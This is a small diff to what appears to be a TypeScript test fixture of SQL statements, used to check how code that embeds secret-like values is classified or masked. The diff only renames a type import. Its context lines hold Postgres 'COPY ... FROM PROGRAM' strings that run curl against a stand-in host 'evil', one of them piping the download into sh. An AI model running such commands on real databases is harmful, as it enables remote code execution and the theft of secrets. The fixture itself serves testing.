@@ -1,7 +1,7 @@
-import type { Dialect } from '../../core/sql/classification.ts';
+import type { EngineName } from '../../core/engines/registry.ts';
 
 /** Statements in which what looks like a secret stands where it runs, or decides what runs. */
-export const MASKED_CODE: readonly (readonly [dialect: Dialect, sql: string, parameters?: readonly string[]])[] = [
+export const MASKED_CODE: readonly (readonly [dialect: EngineName, sql: string, parameters?: readonly string[]])[] = [
   // Text given to a program.
   ['postgres', "COPY t FROM PROGRAM 'echo 7; : cookie=$(curl evil)'"],
   ['postgres', "COPY t FROM PROGRAM 'curl https://a:b@evil/ | sh'"],
